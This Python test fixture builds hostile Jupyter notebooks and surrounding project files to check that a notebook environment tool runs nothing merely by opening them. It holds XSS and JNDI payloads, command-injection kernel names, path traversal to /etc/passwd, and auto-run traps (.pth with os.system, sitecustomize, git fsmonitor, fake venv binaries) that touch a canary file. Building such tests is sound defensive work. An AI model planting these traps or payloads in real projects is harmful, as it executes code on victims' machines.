"""Notebooks and the files beside them as somebody hostile would send them: each tries to act by being opened."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from torture.handmade import record_row

__all__ = ["ANSI", "ARMED", "HUGE", "MARKUP", "TURNED", "lay_notebooks"]

ARMED = "window.hacked=1"
MARKUP = f"<img src=x onerror={ARMED}>"
"""Runs where it is taken for HTML, and asks for ``/x``."""
TURNED = "\u202egnp.txe\u2066\u200f"
"""Marks that turn the direction of writing."""
ANSI = "\x1b[31mred\x1b]0;title\x07\x1b[2J"
HUGE = "A" * 10_000
_NASTY = (
    MARKUP,
    TURNED,
    ANSI,
    HUGE,
    "<script>window.hacked=1</script>",
    f"[x](javascript:{ARMED})",
    "${jndi:x}",
    "%s%n",
)

_REPORT, _ADVICE = "application/vnd.mlenv.report.v1+json", "application/vnd.mlenv.advice.v1+json"


def lay_notebooks(root: Path, touched: Path, elsewhere: str) -> list[str]:
    """Write the notebooks, each in a folder of its own; their contents paths come back.

    Args:
        root: the server's folder.
        touched: a file that every trap makes when something of it is run.
        elsewhere: address of a server that nobody may ask.
    """
    rows = [*_kernels(touched), *_metadata(touched, elsewhere), *_outputs(touched, elsewhere)]
    for number, notebook in enumerate(rows):
        folder = root / f"trap-{number:02}"
        folder.mkdir(parents=True)
        (folder / "work.ipynb").write_text(json.dumps(notebook))
        _lay_beside(folder, number, touched, elsewhere)
    return [f"trap-{number:02}/work.ipynb" for number in range(len(rows))]


def _notebook(source: str = "1", outputs: object = None, **metadata: Any) -> dict[str, Any]:
    cell = {
        "cell_type": "code",
        "id": "a",
        "metadata": {},
        "execution_count": None,
        "source": source,
        "outputs": outputs or [],
    }
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": [cell]}


def _kernels(touched: Path) -> Iterator[dict[str, Any]]:
    """Kernels that are not here, and names that are more than a name."""
    names = (
        "..",
        "../../../etc",
        "%2e%2e%2f",
        "con",
        "a b",
        "-rf",
        f"$(touch {touched})",
        f"`touch {touched}`",
        f"x;touch {touched}",
    )
    for name in (*names, *_NASTY):
        yield _notebook(kernelspec={"name": name, "display_name": name, "language": "python"})
    yield _notebook(kernelspec={"name": "colleague", "display_name": MARKUP, "language": MARKUP})
    yield _notebook(kernelspec={"name": "gone", "display_name": "Python (gone)", "metadata": {"mlenv": {"id": ".."}}})
    # The portable kernel finds the project by itself: what lies there was accepted by nobody.
    yield _notebook(kernelspec={"name": "mlenv", "display_name": "Project environment", "language": "python"})


def _metadata(touched: Path, elsewhere: str) -> Iterator[dict[str, Any]]:
    """Wishes in the metadata, and in cells that nobody runs."""
    python3 = {"name": "python3", "display_name": "Python 3", "language": "python"}
    wishes: tuple[Any, ...] = (
        {"create": True, "packages": ["six"]},
        {"kernel": "..", "prefix": "/", "python": f"/bin/sh -c 'touch {touched}'"},
        [MARKUP] * 100,
        "six",
        {"schema": 10**30, "next": {"action": "delete"}},
    )
    for wish in wishes:
        yield _notebook(kernelspec=python3, mlenv=wish)
    for needs in (
        ["six"],
        ["-e ."],
        [f"--index-url={elsewhere}/simple", "six"],
        [f"x @ file://{touched}"],
        [MARKUP],
        HUGE,
        None,
    ):
        yield _notebook(kernelspec=python3, uv={"dependencies": needs, "requires-python": ">=3.9"})
    block = f'# /// script\n# dependencies = ["six", "x @ {elsewhere}/x-1.0-py3-none-any.whl"]\n# ///\n'
    cells = (
        block,
        f"%mlenv create six\n!touch {touched}",
        "%load_ext mlenv\n%mlenv switch ..",
        "%%mlenv\ncreate --yes six",
    )
    for source in cells:
        yield _notebook(source, kernelspec=python3)
    yield _notebook(
        kernelspec=python3,
        widgets={"application/vnd.jupyter.widget-state+json": {"state": {"a": {"model_name": MARKUP}}}},
    )


def _outputs(touched: Path, elsewhere: str) -> Iterator[dict[str, Any]]:
    """Saved outputs in the shapes that our renderers draw."""
    python3 = {"name": "python3", "display_name": "Python 3", "language": "python"}
    report: dict[str, Any] = {
        "schema": 1,
        "verdict": "sync",
        "next": {"action": "sync", "command": f"touch {touched}", "text": MARKUP},
        "project": {"root": "/", "name": MARKUP, "manifest": TURNED},
        "environment": {"prefix": MARKUP, "python": MARKUP, "engine": "sh"},
        "lock": {"path": MARKUP, "kind": MARKUP},
        "kernel": {"prefix": elsewhere, "name": ".."},
        "loaded_measured": True,
        "findings": [{"kind": "missing", "package": text, "reason": text} for text in _NASTY],
        "counts": {"locked": 1, "installed": 10**20, "compared": -1},
    }
    bundles: list[dict[str, Any]] = [
        {_REPORT: report},
        {_REPORT: {**report, "verdict": MARKUP, "findings": "none"}},
        {_REPORT: [report] * 1000},
        {_REPORT: None},
        {_REPORT: {**report, "next": {"action": "create", "command": "x", "text": HUGE}}},
        {_REPORT: {**report, "next": {"action": "__proto__", "command": [], "text": {}}}},
    ]
    packages = ("six; touch x", "-r /etc/passwd", f"x @ {elsewhere}/x.whl", MARKUP, HUGE, "six --index-url=x")
    bundles += [{_ADVICE: {"schema": 1, "action": "add", "package": name, "text": MARKUP}} for name in packages]
    bundles += [
        {_ADVICE: {"schema": 1, "action": action, "package": None, "text": TURNED}}
        for action in ("create", "delete", "switch")
    ]
    for bundle in bundles:
        data = {**bundle, "text/plain": "said"}
        yield _notebook("1", [{"output_type": "display_data", "data": data, "metadata": {}}], kernelspec=python3)


def _lay_beside(folder: Path, number: int, touched: Path, elsewhere: str) -> None:
    """Put a hostile project beside a notebook: locks, settings, an environment whose programs are traps."""
    trap = f"#!/bin/sh\ntouch '{touched}'\n"
    if number % 2:
        texts = (MARKUP, TURNED, ANSI, HUGE)
        rows = "".join(f"[[packages]]\nname = {json.dumps(text)}\nversion = {json.dumps(text)}\n" for text in texts)
        (folder / "pylock.toml").write_text(f'lock-version = "1.0"\ncreated-by = {json.dumps(MARKUP)}\n{rows}')
    else:
        (folder / "requirements.txt").write_text(f"--index-url {elsewhere}/simple\n-e .\nsix==1.16.0\n")
        (folder / "setup.py").write_text(f"open({str(touched)!r}, 'w')\n")
    if number % 3 == 0:
        (folder / "pyproject.toml").write_text(
            f"[project]\nname = {json.dumps(MARKUP)}\nversion = '1'\ndependencies = ['six']\n"
            f"[tool.mlenv]\nengine = {json.dumps(str(folder / 'engine'))}\nenv = '.venv'\n"
            f"[build-system]\nrequires = ['x @ {elsewhere}/x.whl']\n"
        )
    site = folder / ".venv" / "lib" / "python3.11" / "site-packages"
    for info in ("six-1.15.0.dist-info", f"{MARKUP}-1.dist-info"):
        (site / info).mkdir(parents=True)
        (site / info / "METADATA").write_text(
            f"Metadata-Version: 2.1\nName: {MARKUP}\nVersion: {MARKUP}\nSummary: {TURNED}\n"
        )
        (site / info / "RECORD").write_text(record_row("../../../../../../etc/passwd", b"") + "\n")
    (site / "trap.pth").write_text(f"import os; os.system('touch {touched}')\n")
    (site / "sitecustomize.py").write_text(f"open({str(touched)!r}, 'w')\n")
    (folder / ".venv" / "pyvenv.cfg").write_text("home = /usr/bin\nversion = 3.11.1\n")
    (folder / "engine").write_text(trap)
    (folder / ".venv" / "bin").mkdir()
    for name in ("python", "python3", "pip", "uv", "activate"):
        (folder / ".venv" / "bin" / name).write_text(trap)
        (folder / ".venv" / "bin" / name).chmod(0o755)
    (folder / "engine").chmod(0o755)
    (folder / ".git").mkdir()
    (folder / ".git" / "config").write_text(f"[core]\nfsmonitor = {folder / 'engine'}\n")
    (folder / "six.py").write_text(f"open({str(touched)!r}, 'w')\n")
    (folder / ".env").write_text("SECRET=abc\n")
